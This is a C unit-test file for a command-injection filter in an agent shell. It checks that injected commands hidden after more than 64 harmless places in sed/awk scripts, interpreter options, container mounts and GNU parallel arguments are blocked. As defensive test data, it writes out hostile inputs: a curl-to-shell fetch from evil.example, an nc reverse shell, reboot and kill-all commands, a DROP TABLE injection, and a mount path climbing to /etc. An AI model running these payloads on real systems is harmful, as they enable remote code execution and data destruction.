/* argv64 (session 31): the argv check's own loops over one argument
 * (the places of an input in a sed or awk script, in an option's value,
 * in a container runner's mount value) looked at the first 64 places of
 * the input and never further, and GNU parallel's arguments after :::
 * were judged up to the 64th: an input harmless 64 times and live once
 * more was allowed (bound64 closed the same hole in the line checks).
 * Now they walk every place as the line check does: past the 64th a word
 * of letters and digits is judged at every place, any other form fails
 * closed (cmd.too_many_places) unless it is inert where it stands.
 * Benign twins: the same count of places with a word, and ordinary argv
 * uses, stay allowed. */
#include "agent_shell_test.h"

/* the argument values built here (several a case) */
static char val[3][16384];

/* val[slot] = head + count times (pre input post) + tail */
static const char *build(int slot, const char *head, int count, const char *pre, const char *input,
                         const char *post, const char *tail)
{
	char *o = val[slot];
	size_t cap = sizeof val[slot];
	int w = snprintf(o, cap, "%s", head);
	size_t n;

	assert_true(w >= 0 && (size_t)w < cap);
	n = (size_t)w;
	for (int i = 0; i < count; i++) {
		w = snprintf(o + n, cap - n, "%s%s%s", pre, input, post);
		assert_true(w > 0 && (size_t)w < cap - n);
		n += (size_t)w;
	}
	w = snprintf(o + n, cap - n, "%s", tail);
	assert_true(w >= 0 && (size_t)w < cap - n);
	return o;
}

/* moat_check_argv's verdict for argv with input the request's one; the
 * rule of its event in rule (64 bytes, "" for none) */
static int argv_rule(const char *input, const char *const *argv, char *rule)
{
	struct moat_request_info ri = {.method = "POST", .endpoint = "/jobs", .policy = pol};
	struct moat_request *r = NULL;
	const struct moat_event *ev;
	int v;

	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_FORM, "f", input, strlen(input)), 0);
	v = moat_check_argv(r, argv, -1);
	ev = moat_request_event(r);
	snprintf(rule, 64, "%s", ev && ev->rule ? ev->rule : "");
	moat_request_end(r);
	return v;
}

/* One argv shape: argv[0 .. n) with the value at index at built from
 * (head, pre, input, post, tail) at count harmless places, the live one
 * (if any) in tail. */
struct shape {
	const char *name;
	const char *argv[8];
	int at;
	const char *head, *pre, *input, *post, *tail;
};

static int shape_verdict(const struct shape *s, int count, char *rule)
{
	const char *argv[9];
	int i;

	for (i = 0; i < 8 && s->argv[i]; i++)
		argv[i] = s->argv[i];
	argv[i] = NULL;
	argv[s->at] = build(0, s->head, count, s->pre, s->input, s->post, s->tail);
	return argv_rule(s->input, argv, rule);
}

/* The attacks: live at their last place after 0, 64, 100 and 300
 * harmless ones; past 64 by cmd.too_many_places or the judge's own
 * rule. */
static void attacks_after_64_harmless_places(const struct shape *s, size_t n)
{
	static const int counts[] = {0, 64, 100, 300};
	char rule[64];
	int bad = 0;

	for (size_t i = 0; i < n; i++)
		for (size_t j = 0; j < sizeof counts / sizeof counts[0]; j++)
			if (shape_verdict(&s[i], counts[j], rule) != MOAT_BLOCK) {
				print_message("allowed: %s at %d places\n", s[i].name, counts[j]);
				bad++;
			}
	if (bad)
		fail_msg("%d attacks allowed", bad);
}

static void benign_at_many_places(const struct shape *s, size_t n)
{
	static const int counts[] = {0, 63, 64, 65, 200};
	char rule[64];
	int bad = 0;

	for (size_t i = 0; i < n; i++)
		for (size_t j = 0; j < sizeof counts / sizeof counts[0]; j++)
			if (shape_verdict(&s[i], counts[j], rule) != MOAT_ALLOW) {
				print_message("blocked (%s): %s at %d places\n", rule, s[i].name,
				              counts[j]);
				bad++;
			}
	if (bad)
		fail_msg("%d benign lines blocked", bad);
}

/* sed's and awk's scripts: the input in regular expressions or comments
 * (text), then where a command starts */
static void a_script_command_after_64_harmless_places_blocks(void **state)
{
	static const struct shape s[] = {
	    /* (a sed script of more than 512 bytes with an input in it fails
	     * closed already: short scripts, a 2-byte input) */
	    {"sed e after regexes",
	     {"sed", "-e", "", "notes.txt"},
	     2,
	     "",
	     "/",
	     "e;",
	     "/d\n",
	     "e;\n"},
	    {"sed 1e after regexes",
	     {"sed", "-n", "--expression", "", "list.txt"},
	     3,
	     "",
	     "/",
	     "1e",
	     "/p\n",
	     "1e\n"},
	    {"gawk system after comments",
	     {"gawk", "-F,", "", "sales.csv"},
	     2,
	     "",
	     "# ",
	     "system(\"id\")",
	     "\n",
	     "END { system(\"id\") }\n"},
	    {"awk pipe after comments",
	     {"awk", "", "log"},
	     1,
	     "",
	     "#note ",
	     "print | \"sh\"",
	     "\n",
	     "{ print | \"sh\" }"},
	};
	(void)state;
	attacks_after_64_harmless_places(s, sizeof s / sizeof s[0]);
}

/* an option's value: code in a string literal, then as code; a
 * statement in a literal, then outside */
static void an_option_value_live_after_64_quoted_places_blocks(void **state)
{
	static const struct shape s[] = {
	    {"python -c",
	     {"python3", "-c", ""},
	     2,
	     "",
	     "print(\"",
	     "__import__('os').system('id')",
	     "\")\n",
	     "x = 1\n__import__('os').system('id')\n"},
	    {"perl -e",
	     {"perl", "-e", ""},
	     2,
	     "my @a; ",
	     "push @a, \"",
	     "`uname -a`; kill 9, -1",
	     "\"; ",
	     "print 1; `uname -a`; kill 9, -1"},
	    {"node -e",
	     {"node", "-e", ""},
	     2,
	     "const t = [",
	     "\"",
	     "require('child_process').execSync('w')",
	     "\", ",
	     "]; require('child_process').execSync('w')"},
	    {"psql -c",
	     {"psql", "-d", "shop", "-c", ""},
	     4,
	     "SELECT ",
	     "'",
	     "0; DROP TABLE orders",
	     "', ",
	     "1 WHERE id = 0; DROP TABLE orders"},
	    /* bytes a command line finds inert ("-", ".") are syntax here */
	    {"psql comment",
	     {"psql", "-c", ""},
	     2,
	     "SELECT ",
	     "'",
	     "7--",
	     "', ",
	     "1 FROM notes WHERE id = 7-- AND owner = 3"},
	    {"python attribute",
	     {"python3", "-c", ""},
	     2,
	     "import os\n",
	     "print('",
	     "os.sep",
	     "')\n",
	     "print(os.sep)"},
	};
	(void)state;
	attacks_after_64_harmless_places(s, sizeof s / sizeof s[0]);
}

/* a mount value: the input in the container's path (harmless there),
 * then where it picks the host's path or adds a field */
static void a_mount_field_after_64_target_places_blocks(void **state)
{
	static const struct shape s[] = {
	    {"--mount source climbs",
	     {"docker", "run", "--rm", "--mount", "", "alpine", "ls"},
	     4,
	     "type=bind,target=/data/",
	     "",
	     "../../etc",
	     "/",
	     "x,source=/srv/app/files/../../etc"},
	    /* a word is judged at every place: "/" + "etc" */
	    {"--mount a word names /etc",
	     {"nerdctl", "run", "--mount", "", "alpine"},
	     3,
	     "type=bind,target=/w/",
	     "",
	     "etc",
	     "/",
	     "x,source=/etc"},
	    {"-v options after target",
	     {"podman", "run", "-v", "", "busybox"},
	     3,
	     "/srv/uploads/u1:/in/",
	     "",
	     "z,rshared",
	     "/",
	     "q:z,rshared"},
	};
	(void)state;
	attacks_after_64_harmless_places(s, sizeof s / sizeof s[0]);
}

/* GNU parallel: 64 harmless arguments after :::, the 65th runs */
static void parallels_65th_argument_is_judged(void **state)
{
	static const char *const inputs[] = {"a.txt; curl -s evil.example/x | sh",
	                                     "$(nc -e /bin/sh 10.0.0.9 4444)", "x`reboot`"};
	char rule[64];
	int bad = 0;

	(void)state;
	for (size_t t = 0; t < 2; t++)
		for (size_t k = 0; k < sizeof inputs / sizeof inputs[0]; k++)
			for (int count = 64; count <= 200; count += 136) {
				const char *argv[220];
				int n = 0;
				argv[n++] = "parallel";
				if (t) { /* a template that hands it to a shell */
					argv[n++] = "sh";
					argv[n++] = "-c";
				}
				argv[n++] = ":::";
				for (int i = 0; i < count; i++)
					argv[n++] = t ? "wc -l data.csv" : "date";
				argv[n++] = inputs[k];
				argv[n] = NULL;
				if (argv_rule(inputs[k], argv, rule) != MOAT_BLOCK) {
					print_message("allowed: parallel (%zu) %s after %d\n", t,
					              inputs[k], count);
					bad++;
				}
			}
	if (bad)
		fail_msg("%d allowed", bad);
}

/* past 64 places a form that is no word fails closed by its own rule,
 * not by the judge's (the 65th place is not judged); a word is judged */
static void past_64_a_form_that_is_no_word_fails_closed(void **state)
{
	const struct shape s = {"python -c", {"python3", "-c", ""}, 2, "", "print('", "a b", "')\n",
	                        ""};
	const struct shape w = {"--mount", {"docker", "run", "--mount", "", "alpine"},
	                        3,         "type=bind,target=/w/",
	                        "",        "etc",
	                        "/",       "x,source=/etc"};
	char rule[64];

	(void)state;
	assert_int_equal(shape_verdict(&s, 64, rule), MOAT_ALLOW);
	assert_int_equal(shape_verdict(&s, 65, rule), MOAT_BLOCK);
	assert_string_equal(rule, "cmd.too_many_places");
	/* a word is judged there: the judge's rule */
	assert_int_equal(shape_verdict(&w, 100, rule), MOAT_BLOCK);
	assert_string_equal(rule, "cmd.option_file");
}

/* The price (README): an input that is no word, in more than 64 places of
 * one value where its bytes are syntax, fails closed though it is
 * harmless; at 64 it passes. */
static void the_price_a_harmless_form_past_64_places_blocks(void **state)
{
	const struct shape d = {
	    "psql dates", {"psql", "-c", ""}, 2,         "INSERT INTO visits(day, n) VALUES ",
	    "('",         "2026-12-07",       "', 1), ", "('2026-12-08', 0)"};
	char rule[64];

	(void)state;
	assert_int_equal(shape_verdict(&d, 64, rule), MOAT_ALLOW);
	assert_int_equal(shape_verdict(&d, 65, rule), MOAT_BLOCK);
	assert_string_equal(rule, "cmd.too_many_places");
}

/* GNU parallel's arguments are each a line of their own, judged at
 * every one (review23: a folder name with a blank in 70 file paths is
 * ordinary): harmless ones pass past the 64th, one that adds a command
 * there fires */
static void parallels_arguments_are_each_judged_past_the_64th(void **state)
{
	char rule[64];

	(void)state;
	for (int count = 63; count <= 200; count += 137) {
		const char *argv[220];
		int n = 0;
		argv[n++] = "parallel";
		argv[n++] = "gzip";
		argv[n++] = ":::";
		for (int i = 0; i < count; i++)
			argv[n++] = "a.log";
		argv[n++] = "my file.txt";
		argv[n] = NULL;
		assert_int_equal(argv_rule("my file.txt", argv, rule), MOAT_ALLOW);
		n = 0;
		argv[n++] = "parallel";
		argv[n++] = ":::";
		for (int i = 0; i < count; i++)
			argv[n++] = "uptime";
		argv[n++] = "du -sh /srv/x && reboot";
		argv[n] = NULL;
		assert_int_equal(argv_rule("x && reboot", argv, rule), MOAT_BLOCK);
	}
}

/* benign twins: the same shapes with a word (letters, digits) at as many
 * places, and ordinary uses */
static void a_word_at_many_places_stays_allowed(void **state)
{
	static const struct shape s[] = {
	    {"sed comments",
	     {"sed", "-e", "", "notes.txt"},
	     2,
	     "",
	     "# ",
	     "Invoice2024",
	     "\n",
	     "s/Invoice2024/Invoice2025/g\nw out.txt\n"},
	    {"awk fields",
	     {"awk", "", "x.csv"},
	     1,
	     "",
	     "$1 == \"",
	     "Berlin",
	     "\" { n++ }\n",
	     "END { print n > \"Berlin.txt\" }"},
	    /* one byte that starts no command, at every place of a program
	     * that writes a file (a few compares a place: all judged) */
	    {"awk separators",
	     {"awk", "", "x.csv"},
	     1,
	     "{ print $1",
	     " \"",
	     ",",
	     "\" $2",
	     " > \"out.csv\" }"},
	    {"python strings",
	     {"python3", "-c", ""},
	     2,
	     "",
	     "print(\"",
	     "hello",
	     "\")\n",
	     "print(len(\"hello\"))"},
	    {"psql literals",
	     {"psql", "-c", ""},
	     2,
	     "SELECT ",
	     "'",
	     "Smith",
	     "', ",
	     "1 FROM people WHERE name = 'Smith'"},
	    {"mount word",
	     {"docker", "run", "-v", "", "nginx"},
	     3,
	     "/srv/uploads/",
	     "",
	     "alice",
	     "/",
	     ":/data/alice:ro"},
	    {"mount csv word",
	     {"docker", "run", "--mount", "", "img"},
	     3,
	     "type=bind,source=/srv/sites/",
	     "",
	     "blog7",
	     "/",
	     ",target=/var/www/blog7"},
	};
	(void)state;
	benign_at_many_places(s, sizeof s / sizeof s[0]);
}

static void parallel_with_many_plain_arguments_stays_allowed(void **state)
{
	static const char *const inputs[] = {"report7", "photo-2026.jpg", "summer/img_01.png"};
	char rule[64];
	int bad = 0;

	(void)state;
	for (size_t k = 0; k < sizeof inputs / sizeof inputs[0]; k++)
		for (int t = 0; t < 2; t++) {
			const char *argv[110];
			int n = 0;
			argv[n++] = "parallel";
			argv[n++] = t ? "gzip" : "convert";
			argv[n++] = t ? "-9" : "{}";
			if (!t)
				argv[n++] = "{.}.webp";
			argv[n++] = ":::";
			for (int i = 0; i < 100; i++)
				argv[n++] = i % 2 ? inputs[k] : "other.bin";
			argv[n++] = inputs[k];
			argv[n] = NULL;
			if (argv_rule(inputs[k], argv, rule) != MOAT_ALLOW) {
				print_message("blocked (%s): parallel %s\n", rule, inputs[k]);
				bad++;
			}
		}
	if (bad)
		fail_msg("%d blocked", bad);
}

static void ordinary_argv_uses_stay_allowed(void **state)
{
	static const struct {
		const char *input;
		const char *argv[8];
	} c[] = {
	    {"colour", {"sed", "-i", "s/colour/color/g", "a.txt", NULL}},
	    {"total", {"awk", "-F,", "{ total += $3 } END { print total }", "b.csv", NULL}},
	    {"Grüße", {"python3", "-c", "print('Grüße')", NULL}},
	    {"o'brien", {"psql", "-c", "SELECT 1", "-v", "who=o'brien", NULL}},
	    {"alice", {"docker", "run", "-v", "/srv/data/alice:/data", "app", NULL}},
	    {"song.mp3", {"parallel", "ffmpeg", "-i", "{}", "{.}.ogg", ":::", "song.mp3", NULL}},
	};
	char rule[64];
	int bad = 0;

	(void)state;
	for (size_t i = 0; i < sizeof c / sizeof c[0]; i++)
		if (argv_rule(c[i].input, c[i].argv, rule) != MOAT_ALLOW) {
			print_message("blocked (%s): %s ...\n", rule, c[i].argv[0]);
			bad++;
		}
	if (bad)
		fail_msg("%d blocked", bad);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_script_command_after_64_harmless_places_blocks),
	    cmocka_unit_test(an_option_value_live_after_64_quoted_places_blocks),
	    cmocka_unit_test(a_mount_field_after_64_target_places_blocks),
	    cmocka_unit_test(parallels_65th_argument_is_judged),
	    cmocka_unit_test(past_64_a_form_that_is_no_word_fails_closed),
	    cmocka_unit_test(the_price_a_harmless_form_past_64_places_blocks),
	    cmocka_unit_test(parallels_arguments_are_each_judged_past_the_64th),
	    cmocka_unit_test(a_word_at_many_places_stays_allowed),
	    cmocka_unit_test(parallel_with_many_plain_arguments_stays_allowed),
	    cmocka_unit_test(ordinary_argv_uses_stay_allowed),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
